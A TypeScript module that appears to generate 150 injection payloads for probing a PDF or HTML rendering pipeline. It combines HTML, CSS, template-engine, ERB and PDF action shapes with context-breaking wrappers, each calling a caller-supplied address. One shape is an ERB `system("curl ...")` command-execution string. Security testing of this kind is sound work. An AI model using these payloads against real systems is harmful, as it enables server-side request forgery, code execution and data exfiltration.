/** Texts that a page, a style, a template engine, a PDF or a shell would take for more than text, each with an address in it. */
const shapes: readonly ((address: string) => string)[] = [
  (at) => `<img src="${at}">`,
  (at) => `<link rel=stylesheet href=${at}>`,
  (at) => `<script src=${at}></script>`,
  (at) => `<style>@import url(${at});body{display:none}</style>`,
  (at) => `<iframe src="${at}"></iframe>`,
  (at) => `<object data="${at}"></object>`,
  (at) => `<svg><image href="${at}"/></svg>`,
  (at) => `<base href="${at}">`,
  (at) => `<meta http-equiv=refresh content="0;url=${at}">`,
  (at) => `<body background="${at}">`,
  (at) => `url(${at})`,
  (at) => `{{constructor.constructor("fetch('${at}')")()}}`.replaceAll('{{', '{ {').replaceAll('}}', '} }'),
  (at) => `\${fetch('${at}')}`,
  (at) => `<%= system("curl ${at}") %>`,
  (at) => `) Tj ET /AA << /O << /S /URI /URI (${at}) >> >> BT (`,
]

/** What stands before and after, as where an attribute, a comment, a tag or a string would end. */
const surroundings: readonly (readonly [string, string])[] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</p></div>', '<p>'],
  ['-->', '<!--'],
  [']]>', '<![CDATA['],
  ['</style></title>', '<style>'],
  ['&lt;', '&gt;&#60;'],
  ['\\"', '\\u003c'],
  ['/**/', '//'],
]

/** A hundred and fifty payloads that would all ask for `address`. */
export const pdfPayloads = (address: string): readonly string[] =>
  shapes.flatMap((shape) =>
    surroundings.map(([before, after], index) => `${before}${shape(`${address}/${index}`)}${after}`),
  )
